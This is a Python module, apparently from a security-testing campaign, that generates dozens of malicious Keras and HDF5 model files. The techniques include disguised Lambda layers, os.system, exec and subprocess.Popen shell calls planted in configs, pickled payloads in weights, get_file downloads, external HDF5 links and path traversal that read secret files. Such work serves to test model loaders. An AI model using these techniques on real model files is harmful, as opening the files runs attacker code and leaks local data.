"""Attacks in files of Keras 3 and Keras 2."""

from __future__ import annotations

import base64
import io
import json
import pickle
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

from campaign import mutation
from campaign.attacks.attack import Attack, Members, Pickled, Place, members_of


def _keras(name: str, edit: Callable[[Place, dict[str, Any], Members], object]) -> Attack:
    def make(place: Place) -> Path:
        members = members_of(place.originals / "good.keras")
        config = json.loads(members["config.json"])
        edited = edit(place, config, members)
        members["config.json"] = (edited if isinstance(edited, str) else json.dumps(config)).encode()
        path = place.folder / f"{name}.keras"
        path.write_bytes(mutation.zipped(list(members.items())))
        return path

    return Attack(name, make, "keras-tensorflow")


def _head(config: dict[str, Any]) -> dict[str, Any]:
    [found] = [layer for layer in config["config"]["layers"] if layer["class_name"] == "Dense"]
    return found


def as_head(config: dict[str, Any], layer: dict[str, Any], **changes: Any) -> None:
    """Put another layer in the place of the last one."""
    head = _head(config)
    settings = {**layer["config"], "name": head["config"]["name"]}
    head |= {**layer, "config": settings, **changes}


def _setting(**values: Callable[[Place], Any]) -> Callable[[Place, dict[str, Any], Members], object]:
    return lambda place, config, members: _head(config)["config"].update({k: f(place) for k, f in values.items()})


def _function(module: str, name: str) -> dict[str, Any]:
    return {"class_name": "function", "module": module, "config": name, "registered_name": name}


def _weights(change: Callable[[Place, Any], None]) -> Callable[[Place, dict[str, Any], Members], object]:
    def edit(place: Place, config: dict[str, Any], members: Members) -> None:
        import h5py

        path = place.folder / "weights.h5"
        path.write_bytes(members["model.weights.h5"])
        with h5py.File(path, "r+") as file:
            change(place, file)
        members["model.weights.h5"] = path.read_bytes()

    return edit


def _kernel(file: Any) -> tuple[Any, str]:
    """The group and name of the last layer's kernel."""
    group = file["layers/dense/vars"]
    return group, "0"


def _replaced(make: Callable[[Place, Any, str, Any], object]) -> Callable[[Place, Any], None]:
    def change(place: Place, file: Any) -> None:
        group, name = _kernel(file)
        shape = group[name].shape
        del group[name]
        make(place, group, name, shape)

    return change


def _virtual(place: Place, group: Any, name: str, shape: Any) -> None:
    import h5py

    layout = h5py.VirtualLayout(shape, "float32")
    layout[...] = h5py.VirtualSource(str(place.secret), "w", shape, dtype="float32")
    group.create_virtual_dataset(name, layout)


def _external(place: Place, group: Any, name: str, shape: Any) -> None:
    import h5py

    group[name] = h5py.ExternalLink(str(place.secret), "/w")


def _sharded(place: Place, config: dict[str, Any], members: Members) -> None:
    """Weights in several files, whose names an index tells."""
    members.pop("model.weights.h5")
    index = {"metadata": {"total_size": 1}, "weight_map": {"/layers/dense/vars": [f"../../../../../..{place.secret}"]}}
    members["model.weights.json"] = json.dumps(index).encode()


def _npz_weights(place: Place, config: dict[str, Any], members: Members) -> None:
    import numpy as np

    made = io.BytesIO()
    np.savez(made, **{"layers/dense/vars": np.array([Pickled(place.shell)], dtype=object)})
    members.pop("model.weights.h5")
    members["model.weights.npz"] = made.getvalue()


def _twice(place: Place, config: dict[str, Any], members: Members) -> str:
    """A key that is there twice: the first class computes, the last one is code."""
    text = json.dumps(config)
    layer = json.dumps(place.layer["config"])
    return text.replace(
        '"class_name": "Dense", "config": {',
        f'"class_name": "Dense", "class_name": "Lambda", "config": {layer}, "was": {{',
    )


def _time_distributed(place: Place, config: dict[str, Any], members: Members) -> None:
    as_head(config, {"module": "keras.layers", "class_name": "TimeDistributed", "config": {"layer": place.layer}})


def _lookup(name: str) -> Callable[[Place, dict[str, Any], Members], object]:
    def edit(place: Place, config: dict[str, Any], members: Members) -> None:
        settings = {"vocabulary": str(place.secret), "max_tokens": None}
        as_head(config, {"module": "keras.layers", "class_name": name, "config": settings})

    return edit


KERAS = [
    _keras("lambda-registered-as-dense", lambda p, c, m: as_head(c, p.layer, registered_name="Dense")),
    _keras("dense-registered-as-lambda", lambda p, c, m: as_head(c, p.layer, class_name="Dense", registered_name="Lambda")),
    _keras("lambda-by-its-own-module", lambda p, c, m: as_head(c, p.layer, module="keras.src.layers.core.lambda_layer")),
    _keras("lambda-as-activation", _setting(activation=lambda p: p.lambda_)),
    _keras("lambda-in-a-regularizer", _setting(kernel_regularizer=lambda p: {"class_name": "L2", "module": "keras.regularizers", "config": {"l2": p.lambda_}})),
    _keras("lambda-in-build-config", lambda p, c, m: _head(c).update(build_config={"input_shape": [None, 4], "x": p.layer})),
    _keras("lambda-in-compile-config", lambda p, c, m: c.update(compile_config={"optimizer": "adam", "loss": p.lambda_, "metrics": [p.layer]})),
    _keras("lambda-inside-of-a-layer", _time_distributed),
    _keras("class-named-twice", _twice),
    _keras("os-system-as-activation", _setting(activation=lambda p: _function("os", "system"))),
    _keras("exec-as-activation", _setting(activation=lambda p: _function("builtins", "exec"))),
    _keras("func-load-as-initializer", _setting(kernel_initializer=lambda p: {"module": "keras.src.utils.python_utils", "class_name": "func_load", "config": {"code": p.lambda_["config"]["code"]}})),
    _keras("get-file-as-initializer", _setting(kernel_initializer=lambda p: {"module": "keras.utils", "class_name": "get_file", "config": {"fname": str(p.target), "origin": f"http://127.0.0.1:{p.port}/x"}})),
    _keras("get-file-by-string", _setting(activation=lambda p: "keras.utils.get_file", bias_initializer=lambda p: "get_file")),
    _keras("dtype-of-a-module", _setting(dtype=lambda p: {"module": "os", "class_name": "system", "config": {"command": p.shell}, "registered_name": None})),
    _keras("popen-as-a-class", _setting(bias_initializer=lambda p: {"module": "subprocess", "class_name": "Popen", "config": {"args": ["/bin/sh", "-c", p.shell]}, "registered_name": None})),
    _keras("vocabulary-of-a-string-lookup", _lookup("StringLookup")),
    _keras("vocabulary-of-a-text-vectorization", _lookup("TextVectorization")),
    _keras("saved-model-layer", lambda p, c, m: as_head(c, {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": str(p.secret.parent), "call_endpoint": "serve"}})),
    _keras("torch-module-layer", lambda p, c, m: as_head(c, {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"module": base64.b64encode(pickle.dumps(Pickled(p.shell))).decode()}})),
    _keras("weights-external-link", _weights(_replaced(_external))),
    _keras("weights-virtual-dataset", _weights(_replaced(_virtual))),
    _keras("weights-raw-file", _weights(_replaced(lambda p, g, n, s: g.create_dataset(n, s, "float32", external=[(str(p.secret), 0, 64)])))),
    _keras("weights-cycle", _weights(lambda p, f: f["layers"].__setitem__("loop", f["/"]))),
    _keras("weights-npz-pickled", _npz_weights),
    _keras("weights-sharded-outside", _sharded),
]  # fmt: skip


def _h5(name: str, edit: Callable[[Place, dict[str, Any], Any], object], original: str = "good_2.h5") -> Attack:
    def make(place: Place) -> Path:
        import h5py

        path = Path(shutil.copy(place.originals / original, place.folder / f"{name}.h5"))
        with h5py.File(path, "r+") as file:
            config = json.loads(file.attrs["model_config"])
            edit(place, config, file)
            file.attrs["model_config"] = json.dumps(config)
        return path

    return Attack(name, make, "tf-keras" if original == "good_2.h5" else "keras-tensorflow")


def _old_lambda(place: Place, config: dict[str, Any], file: Any) -> None:
    code = place.lambda_["config"]["code"]
    settings = {
        "name": "head",
        "function": [code + "\n", None, None],
        "function_type": "lambda",
        "module": "x",
        "arguments": {},
        "output_shape": None,
        "output_shape_type": "raw",
        "output_shape_module": None,
    }
    _head(config).update({"class_name": "Lambda", "config": settings})


def _operator(function: str, **arguments: Callable[[Place], Any]) -> Callable[[Place, dict[str, Any], Any], object]:
    def edit(place: Place, config: dict[str, Any], file: Any) -> None:
        head = _head(config)
        nodes = [[*head["inbound_nodes"][0][0][:3], {k: f(place) for k, f in arguments.items()}]]
        head |= {"class_name": "TFOpLambda", "config": {"name": "head", "function": function}, "inbound_nodes": nodes}

    return edit


H5 = [
    _h5("old-lambda", _old_lambda),
    _h5("old-lambda-in-training-config", lambda p, c, f: f.attrs.__setitem__("training_config", json.dumps({"loss": p.lambda_, "optimizer_config": p.layer}))),
    _h5("old-operator-io", _operator("io.write_file", contents=lambda p: "owned")),
    _h5("old-operator-numpy-function", _operator("numpy_function", func=lambda p: p.shell, Tout=lambda p: "float32")),
    _h5("old-activation-by-module", lambda p, c, f: _head(c)["config"].update(activation="tf_keras.utils.get_file")),
    _h5("h5-lambda-of-keras-3", lambda p, c, f: as_head(c, p.layer), "good.h5"),
    _h5("h5-external-weights", lambda p, c, f: _external(p, f["model_weights"], "more", ()), "good.h5"),
]  # fmt: skip
